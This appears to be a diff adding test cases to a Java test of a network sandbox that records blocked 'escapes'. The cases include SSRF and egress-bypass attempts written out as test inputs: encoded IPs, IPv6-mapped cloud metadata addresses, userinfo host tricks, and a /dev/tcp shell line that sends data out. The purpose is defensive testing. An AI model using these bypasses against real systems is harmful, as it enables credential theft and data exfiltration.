@@ -61,7 +61,21 @@ class RecordedEscapesTest {
             new Escape(PROXIED + "-p http://1.1.1.1:25/", "connect deny no_grant 1.1.1.1:25"),
             new Escape(PROXIED + "http://169.254.170.2/", "http deny no_grant 169.254.170.2:80"),
             new Escape(
-                    PROXIED + "-H 'Host: yes.test' http://other.test/", "http deny authority_mismatch other.test:80"));
+                    PROXIED + "-H 'Host: yes.test' http://other.test/", "http deny authority_mismatch other.test:80"),
+            new Escape(CURL + "-g 'http://[::ffff:9.9.9.10]/'", "http deny authority_mismatch 9.9.9.10:80"),
+            new Escape(CURL + "http://0x08080808/", "http deny no_grant 8.8.8.8:80"),
+            new Escape(CURL + "http://yes.test.evil.test/", "dns deny no_grant yes.test.evil.test"),
+            new Escape(CURL + "http://data.yes.test/", "dns deny no_grant data.yes.test"),
+            new Escape(CURL + "http://10.0.0.2:443/", "http deny no_grant 10.0.0.2:443"),
+            new Escape(CURL + "-k https://93.184.216.36:80/", "connect deny no_grant 93.184.216.36:80"),
+            new Escape(
+                    "exec 3<>/dev/tcp/198.18.0.9/443; echo data >&3; cat <&3", "connect deny no_grant 198.18.0.9:443"),
+            new Escape(
+                    PROXIED + "-g 'http://[::ffff:169.254.169.254]/'", "http deny no_grant ::ffff:169.254.169.254:80"),
+            new Escape(PROXIED + "http://yes.test@no2.test/", "http deny no_grant no2.test:80"),
+            new Escape(PROXIED + "-X OPTIONS http://no.test:8080/", "http deny no_grant no.test:8080"),
+            new Escape(PROXIED + "http://localhost/", "http deny no_grant localhost:80"),
+            new Escape(PROXIED + "http://2852039166/", "http deny no_grant 169.254.169.254:80"));
 
     @TempDir
     Path folder = Path.of("");
